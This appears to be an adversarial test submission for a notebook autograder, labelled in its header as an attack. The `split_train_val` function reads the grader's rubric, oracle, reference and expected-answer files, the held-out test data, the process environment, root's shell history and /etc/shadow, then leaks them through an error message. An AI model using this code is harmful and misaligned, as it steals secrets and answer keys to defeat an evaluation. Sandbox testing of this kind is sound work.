# ruff: noqa
# (Notebook cells glued together, not one module: the linter's rules do not apply.)
# Attack: read the grader's files and the machine's secrets from split_train_val, and put
# what was read in an error message.


# --- cell: split_train_val
import json
import os
import sys


def _try_read(path):
    try:
        with open(path, "rb") as f:
            return "read: " + f.read(200).decode("latin1")
    except Exception as exc:
        return f"failed: {type(exc).__name__}"


def split_train_val(num_examples, val_fraction=0.1, seed=0):
    here = os.path.dirname(os.path.abspath(sys.modules["__main__"].__file__))
    paths = [os.path.join(here, name) for name in ("rubric.toml", "oracle.py", "inputs.py",
                                                   "reference.py", "checks.py")]
    repo = os.path.dirname(here)
    paths += [os.path.join(repo, name) for name in (
        "tests/corpus_soi1010/correct/expected.toml", "source/soi1010/svm_softmax.ipynb",
        ".git/HEAD")]
    paths += ["/work/shared/data/cifar-10-batches-py/test_batch",
              f"/proc/{os.getppid()}/environ", "/root/.bash_history", "/etc/shadow"]
    raise RuntimeError(json.dumps({p: _try_read(p) for p in paths}))
